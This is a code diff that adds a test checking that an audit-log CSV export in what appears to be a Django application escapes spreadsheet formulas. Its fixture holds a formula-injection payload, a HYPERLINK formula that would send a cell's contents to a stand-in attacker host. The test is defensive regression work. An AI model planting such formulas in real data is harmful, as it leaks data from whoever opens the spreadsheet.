@@ -209,3 +209,13 @@ def test_pruning_keeps_at_least_180_days(make_disclosure, moderator, settings, a
     assert not PageLogEntry.objects.filter(pk=older.pk).exists()
     assert recent.exists() and not ancient.exists()
     assert "180" in out.getvalue()
+
+
+def test_the_csv_export_does_not_carry_formulas(client, moderator, make_disclosure):
+    page = make_disclosure(title='=HYPERLINK("http://evil.example/?"&A1,"点击")')
+    page.withdraw(WithdrawalKind.WITHDRAWN, "测试", moderator)
+    client.force_login(moderator)
+    response = client.get("/admin/reports/audit-log/", {"export": "csv"})
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    assert "'=HYPERLINK(" in text
+    assert not any(line.startswith("=") or ",=" in line for line in text.splitlines())
